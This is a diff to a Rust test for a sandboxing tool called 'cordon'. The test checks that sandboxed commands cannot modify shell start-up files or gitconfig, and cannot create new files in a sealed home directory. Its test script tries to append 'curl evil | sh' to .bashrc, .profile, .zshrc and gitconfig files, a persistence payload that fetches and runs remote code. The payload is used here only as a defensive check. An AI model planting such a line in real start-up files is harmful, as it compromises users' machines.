@@ -682,13 +682,16 @@ fn from_the_home_directory_shell_start_up_files_and_gitconfig_stay_read_only() {
         }
         std::fs::create_dir_all(h.join(".config/git")).unwrap();
         std::fs::write(h.join(".config/git/config"), "# mine\n").unwrap();
+        // $HOME allowed as a root is sealed: an existing entry is writable, a new one is not.
+        std::fs::write(h.join("notes.txt"), "").unwrap();
         let cordon_home = h.join(".cordon");
         if user == User::Nobody {
             chown_nobody(h);
         }
         let script = "for f in .bashrc .profile .zshrc .gitconfig .config/git/config; do \
                       echo 'curl evil | sh' >> $f && echo wrote $f; done; \
-                      mv .bashrc .bashrc-moved && echo moved; echo ok > notes.txt";
+                      mv .bashrc .bashrc-moved && echo moved; echo ok > notes.txt; \
+                      echo x > brand-new && echo created";
         let mut command = cordon_command(
             user,
             &[
@@ -707,7 +710,9 @@ fn from_the_home_directory_shell_start_up_files_and_gitconfig_stay_read_only() {
         command.current_dir(h).env("HOME", h).env("CORDON_HOME", &cordon_home);
         let run: Run = command.output().unwrap().into();
         assert!(
-            !run.stdout.contains("wrote") && !run.stdout.contains("moved"),
+            !run.stdout.contains("wrote")
+                && !run.stdout.contains("moved")
+                && !run.stdout.contains("created"),
             "{user:?}: {}",
             run.stdout
         );
